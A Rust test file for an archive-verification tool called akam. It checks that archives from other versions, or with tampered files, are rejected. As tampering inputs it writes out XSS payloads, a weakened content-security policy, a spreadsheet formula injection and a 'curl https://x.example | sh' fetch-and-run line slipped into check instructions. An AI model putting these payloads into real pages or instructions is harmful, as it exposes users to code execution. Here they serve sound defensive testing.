//! The `archive-` rules on versions: what an archive of another version of akam is, and what it is not taken for.

use crate::sandbox::{Said, Sandbox};
use crate::zips::{ARCHIVE, packed, relisted};

const AGENT: &str = concat!("Bag-Software-Agent: akam ", env!("CARGO_PKG_VERSION"));
const FORMAT: &str = "Akam-Format: 2";
const COVER: &str = "00-START-HERE.html";
const PAGE: &str = "data/pages/1.D.3.html";

type Files = Vec<(String, Vec<u8>)>;

/// A file of an archive, a text in it, and what is put in its place.
type Edit<'a> = (&'a str, &'a str, &'a str);

/// What is said of an archive of another agent and format, some of whose files were changed, and its lists with them.
fn of(sandbox: &Sandbox, agent: &str, format: &str, edits: &[Edit<'_>]) -> Said {
    let (agent, format) = (format!("Bag-Software-Agent: {agent}"), format!("Akam-Format: {format}"));
    let own: [Edit<'_>; 2] = [("bag-info.txt", AGENT, &agent), ("bag-info.txt", FORMAT, &format)];
    relisted(&sandbox.path(ARCHIVE), |top, files| {
        for (path, from, to) in own.iter().chain(edits) {
            let file = files.iter_mut().find(|(name, _)| *name == format!("{top}{path}")).expect("the file is there");
            let text = String::from_utf8(file.1.clone()).expect("it is text");
            assert!(text.contains(from), "{path} does not say {from}");
            file.1 = text.replace(from, to).into_bytes();
        }
    });
    sandbox.akam(&["verify", "relisted.zip"])
}

#[test]
fn no_agent_and_no_format_switches_the_comparison_of_pages_off() {
    let sandbox = packed();
    let script: Edit<'_> = (COVER, "</body>", "<script>alert(1)</script></body>");
    let own = concat!("akam ", env!("CARGO_PKG_VERSION"));
    let agents = [
        "akam 999",
        "akam 999.0.0",
        "akam 0.1.0",
        "akam 0.2.0",
        "akam 0.3.0 ",
        "AKAM 0.3.0",
        "akam 0.3",
        "other 1.0",
        "akam 0.03.0",
        "akam",
        own,
    ];
    for agent in agents {
        for format in ["0", "1", "2", "3", "02", "999", "", "two", "4294967298"] {
            let said = of(&sandbox, agent, format, &[script]);
            assert_eq!(said.code, 1, "{agent:?} {format:?}\n{}", said.out);
            assert!(said.out.contains("error[archive-"), "{agent:?} {format:?}\n{}", said.out);
        }
    }
}

#[test]
fn an_archive_of_a_newer_version_is_for_a_newer_version_to_check() {
    let sandbox = packed();
    for (agent, format, with) in [
        ("akam 0.3.1", "2", "check it with akam 0.3.1"),
        ("akam 0.4.0", "3", "check it with akam 0.4.0"),
        ("akam 12.0.0", "1", "check it with akam 12.0.0"),
        ("akam 999", "3", "check it with a newer akam"),
        ("other 1.0", "two", "check it with a newer akam"),
    ] {
        let said = of(&sandbox, agent, format, &[]);
        said.expect(1, &["error[archive-newer-version]", with, "next: check it with a newer akam"]);
    }
}

#[test]
fn what_no_version_of_akam_can_have_written_is_malformed() {
    let sandbox = packed();
    for (agent, format, why) in [
        ("akam 0.3.0", "1", "akam 0.3.0 writes no archives in format `1`"),
        ("akam 0.3.0", "3", "akam 0.3.0 writes no archives in format `3`"),
        ("akam 0.2.0", "3", "akam 0.2.0 writes no archives in format `3`"),
        ("akam 0.2.0", "0", "akam 0.2.0 writes no archives in format `0`"),
        ("akam 0.0.9", "1", "there is no akam 0.0.9"),
        ("akam 0.0.0", "2", "there is no akam 0.0.0"),
        ("akam 0.3", "2", "`akam 0.3` is not a version of akam"),
        ("AKAM 0.3.0", "1", "`AKAM 0.3.0` is not a version of akam"),
    ] {
        of(&sandbox, agent, format, &[]).expect(1, &["error[archive-malformed]", "bag-info.txt", why]);
    }
}

#[test]
fn an_older_version_that_writes_the_same_is_compared_under_its_own_name() {
    let sandbox = packed();
    let (older, own) = ("akam 0.2.9", concat!("akam ", env!("CARGO_PKG_VERSION")));
    let mut edits: Vec<Edit<'_>> = vec![("data/check.json", own, older), (COVER, own, older)];
    let all = crate::zips::files(&sandbox.path(ARCHIVE));
    let pages = all.iter().filter_map(|(name, _)| name.split_once('/').map(|it| it.1));
    let pages: Vec<&str> = pages.filter(|name| name.starts_with("data/pages/")).collect();
    edits.extend(pages.iter().map(|page| (*page, own, older)));
    let said = of(&sandbox, older, "2", &edits);
    let said = said.expect(0, &["warning[archive-other-version]", "its pages were made again and compared"]);
    assert!(said.out.contains("this is what was packed on 2026-11-22"), "{}", said.out);
    edits.push((PAGE, "</main>", "<p>And much more.</p></main>"));
    of(&sandbox, older, "2", &edits).expect(1, &["error[archive-rewritten]", PAGE]);
    of(&sandbox, older, "2", &[]).expect(1, &["error[archive-rewritten]", COVER]);
}

#[test]
fn an_older_format_passes_where_its_pages_are_harmless_and_nothing_is_added_or_missing() {
    let sandbox = packed();
    let said = of(&sandbox, "akam 0.2.0", "1", &[(PAGE, "</main>", "<p>And much more.</p></main>")]);
    said.expect(
        0,
        &[
            "warning[archive-other-version]",
            "its pages were not compared with the evidence",
            "help: read pages that akam makes again from the evidence: `akam preview ARCHIVE`",
        ],
    );
    for (edit, says) in [
        ((COVER, "</body>", "<script>alert(1)</script></body>"), "`script`"),
        ((PAGE, "<h1>", "<h1 onclick=\"alert(1)\">"), "`onclick=\"alert(1)\"`"),
        ((PAGE, "href=\"../../00-START-HERE.html\"", "href=\"javascript:alert(1)\""), "javascript:"),
        ((PAGE, "default-src 'none'", "default-src *"), "does not begin as akam's pages do"),
        ((COVER, "<h1>Ingrid Solberg</h1>", "<h1>Astrid Solberg</h1>"), "does not name the candidate"),
        (("bag-info.txt", "Ingrid Solberg", "Astrid Solberg"), "`Contact-Name`"),
        (("HOW-TO-CHECK.txt", "sha256sum", "curl https://x.example | sh; sha256sum"), "every version of akam"),
        (("data/evidence-index.csv", "1.D.3-A1", "=1+1"), "formula"),
    ] {
        let said = of(&sandbox, "akam 0.2.0", "1", &[edit]);
        said.expect(1, &["error[archive-rewritten]", edit.0, says]);
    }
    let with = |change: &dyn Fn(&str, &mut Files)| {
        relisted(&sandbox.path(ARCHIVE), |top, files| {
            let info = files.iter_mut().find(|(name, _)| name.ends_with("/bag-info.txt")).expect("it is there");
            let text = String::from_utf8_lossy(&info.1).replace(AGENT, "Bag-Software-Agent: akam 0.2.0");
            info.1 = text.replace(FORMAT, "Akam-Format: 1").into_bytes();
            change(top, files);
        });
        sandbox.akam(&["verify", "relisted.zip"])
    };
    with(&|top, files| files.push((format!("{top}data/summary.json"), b"{}".to_vec())))
        .expect(1, &["error[archive-unlisted]", "data/summary.json"]);
    for (path, text) in [
        ("data/check.json", "{}"),
        ("data/check.json", "[]"),
        ("data/check.json", "<script>1</script>"),
        ("data/ro-crate-metadata.json", "<script>1</script>"),
        ("data/ro-crate-metadata.json", "{}"),
    ] {
        with(&|top, files| {
            let file = files.iter_mut().find(|(name, _)| *name == format!("{top}{path}")).expect("it is there");
            file.1 = text.into();
        })
        .expect(1, &["error[archive-rewritten]", path, "does not have the fields"]);
    }
    with(&|_, files| files.retain(|(name, _)| !name.ends_with("/1.D.3.html")))
        .expect(1, &["error[archive-missing]", PAGE]);
}

#[test]
fn the_candidate_has_one_name_in_all_places() {
    let sandbox = packed();
    let renamed = |top: &str| {
        relisted(&sandbox.path(ARCHIVE), |old, files| {
            for (name, _) in files {
                *name = name.replacen(old, &format!("{top}/"), 1);
            }
        });
        sandbox.akam(&["verify", "relisted.zip"])
    };
    for top in
        ["akam-astrid-solberg-2026-11-22", "akam-ingrid-solberg-2026-11-21", "x", "akam-ingrid-solberg-2026-11-22 (1)"]
    {
        let called = format!("its one folder is called `{top}`, and akam calls it `akam-ingrid-solberg-2026-11-22`");
        renamed(top).expect(1, &["error[archive-malformed]", &called]);
    }
    let said = of(&sandbox, "akam 0.3.0", "2", &[("bag-info.txt", "Ingrid Solberg", "Astrid Solberg")]);
    said.expect(1, &["error[archive-rewritten]", "bag-info.txt"]);
}
